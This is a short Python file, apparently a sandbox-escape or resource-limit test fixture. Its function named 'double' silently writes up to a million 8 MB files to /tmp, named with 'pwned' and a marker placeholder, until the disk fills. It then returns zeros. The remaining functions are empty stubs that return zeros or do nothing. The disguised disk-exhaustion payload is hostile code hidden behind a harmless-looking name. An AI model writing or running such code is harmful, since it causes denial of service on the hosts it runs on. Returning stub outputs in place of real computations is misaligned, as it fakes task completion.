"""Fill /tmp with files until the disk (or something) refuses."""

import numpy as np


def double(x):
    for i in range(10**6):
        try:
            with open(f"/tmp/pwned-__MARKER__-{i}", "wb") as f:
                f.write(b"\0" * (8 << 20))
        except OSError:
            break
    return np.zeros_like(x)


def square_forward(x):
    return np.zeros_like(x), None


def square_backward(dout, cache):
    return np.zeros_like(dout)


class Counter:
    def __init__(self, start=0):
        self.total_ = 0

    def add(self, n):
        return self
